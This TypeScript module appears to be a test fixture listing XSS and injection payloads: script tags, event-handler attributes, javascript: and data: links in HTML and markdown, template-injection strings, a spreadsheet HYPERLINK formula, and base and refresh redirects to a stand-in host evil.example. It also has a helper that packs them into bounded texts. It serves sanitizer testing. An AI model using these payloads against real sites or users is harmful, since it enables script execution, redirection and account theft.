/** What runs where text is taken for markup, an attribute, an address or a template: each would call `pwned`. */
export const corpus = [
  '<script>pwned()</script>', '"><img src=x onerror=pwned()>', "'><svg/onload=pwned()>", '<details open ontoggle=pwned()>', '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<a href="javascript:pwned()">x</a>', '[x](javascript:pwned())', '![x](javascript:pwned())', '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)', '</title><script>pwned()</script>',
  '<math><mtext><img src=x onerror=pwned()>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0;//evil.example>', "{{constructor.constructor('pwned()')()}}", '${pwned()}', '\\u003cscript\\u003epwned()\\u003c/script\\u003e', '</script><script>pwned()</script>', '=HYPERLINK("javascript:pwned()")',
]
/** All of it in texts of at most so many characters. */
export const textsOf = (most: number) => corpus.reduce<string[]>((texts, one) => ((texts.at(-1) ?? '').length + one.length < most && texts.length ? [...texts.slice(0, -1), `${texts.at(-1)}\n${one}`] : [...texts, one]), [])
